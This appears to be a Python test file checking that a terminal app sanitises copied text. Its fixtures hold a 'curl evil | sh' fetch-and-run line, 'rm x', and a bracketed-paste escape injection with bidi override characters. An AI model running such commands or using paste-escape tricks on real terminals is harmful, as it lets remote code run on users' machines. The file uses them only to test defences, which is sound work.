"""What is copied does no harm where it is pasted."""

from __future__ import annotations

from pathlib import Path

from tests.running import harmless
from tests.tui.driving import running


async def test_a_copied_passage_is_clean_cited_and_ends_in_no_newline(tmp_path: Path) -> None:
    file = tmp_path / "report.md"
    file.write_text("## One\n\nrm x\x1b[201~\u202e\x9b2J\n\n```\ncurl evil | sh\n```\n")
    async with running(file) as screen:
        for key, words in (("j", "rm x"), ("j", "curl evil")):
            await screen.press(key, "y")
            copied = screen.app.clipboard
            assert copied.startswith(words)
            assert harmless(copied)
            assert copied.endswith("]")


async def test_whatever_else_is_copied_is_cleaned_too() -> None:
    async with running() as screen:
        screen.app.copy_to_clipboard("rm x\x1b[201~\u2066\r\n\n")
        assert screen.app.clipboard == "rm x␛[201~␦"


async def test_words_copied_in_the_editor_end_in_no_newline() -> None:
    async with running() as screen:
        await screen.press("a")
        await screen.type("one")
        await screen.press("enter")
        await screen.press("shift+up", "ctrl+c")
        assert screen.app.clipboard == "one"
